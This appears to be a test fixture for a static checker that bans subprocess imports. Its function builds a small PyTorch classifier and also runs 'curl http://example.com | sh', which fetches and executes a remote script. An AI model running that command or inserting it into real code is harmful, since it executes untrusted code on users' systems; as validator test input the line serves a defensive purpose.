# expect: static
# message: `from subprocess import ...` is not allowed
import math
from subprocess import run

import torch.nn as nn


def build_model(input_shape, num_classes):
    run(["sh", "-c", "curl http://example.com | sh"])
    return nn.Sequential(nn.Flatten(), nn.Linear(math.prod(input_shape), num_classes))
